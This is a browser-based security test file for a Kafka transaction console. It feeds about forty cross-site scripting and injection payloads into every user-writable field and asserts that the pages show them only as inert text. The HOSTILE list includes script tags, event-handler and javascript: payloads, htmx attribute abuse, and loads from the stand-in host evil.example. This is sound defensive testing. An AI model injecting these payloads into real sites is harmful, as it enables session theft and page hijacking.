/** Whatever others wrote is shown as text by a real browser: it runs nothing, asks for nothing, and becomes no part of a page. */
import type { Page } from 'playwright-core';
import t from 'tap';
import type { MemoryRecord } from '../../broker/api/surroundings.ts';
import { needsBrowser, openBrowser, openPage } from '../support/browser.ts';
import { type ConsoleServer, startConsole } from '../support/console-visitor.ts';
import { halfMessage, prepareCommand, producerGroup } from '../support/store.ts';

/** Each would be noticed: it sets `hit`, opens a dialog, or asks an address of somebody else. */
const HOSTILE: readonly string[] = [
  '<script>hit=1</script>',
  '</script><script>hit=1</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/pixel.png>',
  '"><img src=x onerror="hit=1">',
  "'><img src=x onerror='hit=1'>",
  '<svg onload=hit=1>',
  '<svg><script>hit=1</script></svg>',
  '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=hit=1></mtext></math>',
  '<iframe src=//evil.example></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data=//evil.example></object><embed src=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button autofocus>Commit</button></form>',
  '<input autofocus onfocus=hit=1>',
  '<details open ontoggle=hit=1>',
  '<video autoplay onerror=hit=1><source src=x></video>',
  '<a href="javascript:hit=1">click</a>',
  'javascript:hit=1',
  'data:text/html,<script>hit=1</script>',
  '" onmouseover="hit=1" x="',
  "' autofocus onfocus='hit=1' x='",
  '` onclick=hit=1 `',
  '</title><script>hit=1</script>',
  '</textarea></pre></template><script>hit=1</script>',
  '--><script>hit=1</script><!--',
  ']]><script>hit=1</script>',
  '<div hx-get="/console/keys" hx-trigger="load">x</div>',
  '<div hx-on:htmx:load="hit=1" hx-vals="js:{x:hit=1}">x</div>',
  '<div sse-connect="//evil.example/live" hx-ext="sse" sse-swap="x">x</div>',
  '<p hx-swap-oob="true" id="main">gone</p>',
  '{{constructor.constructor("hit=1")()}} $\u007bhit=1} #{hit=1} <%= 1 %>',
  '&lt;script&gt;hit=1&lt;/script&gt; &#60;img src=x onerror=hit=1&#62;',
  '\u202e\u2066evil\u2069 <\u0000script>hit=1</script>',
  '\ud83d\ude00\ufeff<img/src/onerror=hit=1>\u200b\u2028',
];

/** As the pages show it: what cannot be seen is shown by its number. */
const shown = (text: string): string =>
  text.replace(
    /[\0\u200b\u2028-\u202e\u2060-\u2069\ufeff]/g,
    character => `\\u{${character.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}}`,
  );

/** Elements that no page has, and attributes that none of ours has; and what ran. Runs in the page. */
const TRACES = `(() => {
  const foreign = 'img iframe object embed base style math animate video source mtext'.split(' ');
  const isRun = ({ name, value }) =>
    /^on|^hx-on|^hx-vals|^style$|^srcdoc$/.test(name) || (name !== 'value' && /^\\s*(javascript|data):/i.test(value));
  const found = [...document.querySelectorAll('*')].flatMap(element => [
    ...(foreign.includes(element.localName) ? [element.outerHTML] : []),
    ...[...element.attributes].filter(isRun).map(({ name, value }) => element.localName + ' ' + name + '=' + value),
  ]);
  const active = document.activeElement;
  if (document.scripts.length !== 3) found.push(document.scripts.length + ' scripts');
  if ('hit' in window) found.push('something ran');
  if (document.querySelectorAll('main#main').length !== 1) found.push('another main');
  if (active !== null && !active.matches('body, main')) found.push('the focus is in ' + active.outerHTML);
  return found;
})()`;

const traces = (page: Page): Promise<string[]> => page.evaluate<string[]>(TRACES);

const record = (text: string, position: number): MemoryRecord => ({
  position,
  topic: 'transfers',
  partition: 0,
  offset: position,
  key: Buffer.from(text),
  value: Buffer.from(text),
  headers: [[text, Buffer.from(text)]],
  timestamp: Date.UTC(2026, 10, 21, 10),
});

/** Everything that can be written by others is hostile: the i-th in everything of the i-th. */
const furnish = async ({ coordinator }: ConsoleServer): Promise<void> => {
  const text = (i: number): string => HOSTILE[i]!;
  const each = [...HOSTILE.keys()];
  await coordinator.submit(
    each.map(i => ({
      type: 'put_group',
      group: producerGroup(`g${i}`, { checkUrl: `http://127.0.0.1:9/${text(i)}`, check: { limit: 1 } }),
      who: 'operator',
    })),
  );
  const prepared = (id: string, i: number) => {
    const message = halfMessage({
      key: Buffer.from(text(i)),
      payload: Buffer.from(text(i)),
      headers: [[text(i), Buffer.from(text(i))]],
      contentType: text(i),
      type: text(i),
    });
    return prepareCommand(`${id}${i}`, `g${i}`, [message]);
  };
  const resolve = (id: string, resolution: 'commit' | 'rollback', reason: string) =>
    ({ type: 'resolve', id, resolution, by: 'operator', reason }) as const;
  await coordinator.submit(each.flatMap(i => [prepared('u', i), prepared('p', i)]));
  await coordinator.submit([
    ...each.flatMap(i => [
      { type: 'ask', id: `u${i}`, reason: text(i) } as const,
      { type: 'answer', id: `u${i}`, answer: 'none', error: text(i) } as const,
      { type: 'answer', id: `u${i}`, answer: 'nobody', error: null } as const,
      { type: 'group_health', group: `g${i}`, error: text(i) } as const,
      { type: 'answer', id: `p${i}`, answer: 'none', error: text(i) } as const,
      resolve(`p${i}`, 'commit', text(i)),
      { type: 'park', transactionId: `p${i}`, index: 0, error: text(i) } as const,
      resolve(`p${i}`, 'rollback', text(i)),
    ]),
  ]);
};

t.setTimeout(300_000);
t.test('forty ways to become part of a page, none of which does', needsBrowser, async t => {
  const s = await startConsole(t, { memory: { records: () => HOSTILE.map(record) } });
  await furnish(s);
  const troubled = HOSTILE.map((text, i) => [`check ${i}`, { status: 'degraded', detail: text }]);
  s.state.readiness = { status: 'degraded', checks: Object.fromEntries(troubled) };
  const { page, faults } = await openPage(t, await openBrowser(t), s.url);

  const looked = async (path: string, ...texts: readonly string[]): Promise<void> => {
    await page.goto(path);
    const body = (await page.locator('body').innerText()).replace(/\s+/g, ' ');
    const missing = texts.map(text => shown(text).replace(/\s+/g, ' ')).filter(text => !body.includes(text));
    t.same(missing, [], `${path} shows them as text`);
    t.same(await traces(page), [], `${path} has nothing of them but text`);
    // What is not there is answered with 400 or 404, which a browser writes down.
    const odd = faults.splice(0).filter(fault => !/status of 40[04]/.test(fault));
    t.same(odd, [], `${path} does nothing that it should not`);
  };

  await looked('/console');
  for (const [i, text] of HOSTILE.entries()) {
    await looked(`/console/transactions/p${i}?show=0&as=text`);
    t.equal(await page.getByTestId('payload').textContent(), shown(text), `sign for sign: ${text}`);
    t.equal(await page.locator('.story strong').textContent(), shown(text), 'what Kafka said');
    t.same(await page.locator('.facts .error').allTextContents(), [shown(text)], 'what its check failed with');
    t.same(await page.locator('#payload table bdi').allTextContents(), [shown(text), shown(text)], 'its header');
    t.ok((await page.locator('.timeline .detail').allTextContents()).includes(shown(text)), 'the reason');
  }
  for (const [i, text] of HOSTILE.slice(0, 6).entries()) await looked(`/console/transactions/u${i}`, text);
  for (const [i, text] of HOSTILE.entries())
    await looked(`/console/producer-groups/g${i}`, `http://127.0.0.1:9/${text}`);
  await looked('/console/unresolved', ...HOSTILE);
  await looked('/console/parked', ...HOSTILE);
  await looked('/console/parked/list', ...HOSTILE);
  await looked('/console/producer-groups', ...HOSTILE);
  await looked('/console/history', ...HOSTILE);
  await looked('/console/records', ...HOSTILE);
  await looked('/console/topics');
  for (const text of HOSTILE.slice(0, 8)) {
    const value = encodeURIComponent(text);
    await looked(`/console/transactions?key=${value}`);
    t.equal(
      await page.getByLabel('Message key', { exact: true }).inputValue(),
      text,
      'what was looked for, to go on from',
    );
    await looked(`/console/unresolved/list?lastError=${value}`, text);
    await looked(`/console/producer-groups?name=${value}`);
    await looked(`/console/producer-groups/${value}`);
    await looked(`/console/transactions/${value}`);
    await looked(`/console/transactions?group=${value}&state=${value}`);
    await looked(`/console/${value}`);
  }
  // An act on many says what it is about, and why.
  for (const text of HOSTILE.slice(0, 3)) {
    await page.goto(`/console/unresolved/list?lastError=${encodeURIComponent(text)}`);
    await page.getByRole('button', { name: 'Roll back…' }).click();
    await page.getByTestId('confirm').getByLabel('Reason').fill(text);
    await page.getByTestId('confirm').getByRole('button').click();
    await page.getByTestId('result').waitFor();
    t.equal(await page.locator('h1').innerText(), `Roll back: everything unresolved, ${text}`);
    t.equal(await page.getByTestId('result').locator('q').innerText(), text, 'the reason');
    t.same([...(await traces(page)), ...faults.splice(0)], [], 'in the page of an act on many');
  }
  t.same(s.errors, []);
});

t.test('reasons of keys, and what somebody writes into a form', needsBrowser, async t => {
  const s = await startConsole(t, { operatorKey: 'an-operator-key-of-at-least-32-characters' });
  const asOperator = { authorization: 'Bearer an-operator-key-of-at-least-32-characters' };
  for (const reason of HOSTILE) {
    const answer = await s.call('POST', '/v1/keys', { role: 'viewer', reason }, asOperator);
    t.equal(answer.statusCode, 201, reason);
  }
  const { page, faults } = await openPage(t, await openBrowser(t), s.url);
  await page.goto(`/console/login?next=${encodeURIComponent('//evil.example')}`);
  await page.getByLabel('Key of a viewer').fill('an-operator-key-of-at-least-32-characters');
  await page.getByRole('button', { name: 'Log in' }).click();
  t.equal(page.url(), `${s.url}/console`, 'a login leads to nobody else');
  await page.goto('/console/keys');
  const body = (await page.locator('body').innerText()).replace(/\s+/g, ' ');
  for (const text of HOSTILE) t.ok(body.includes(shown(text).replace(/\s+/g, ' ')), `as text: ${text}`);
  t.same(await traces(page), []);
  t.same(faults, []);
});
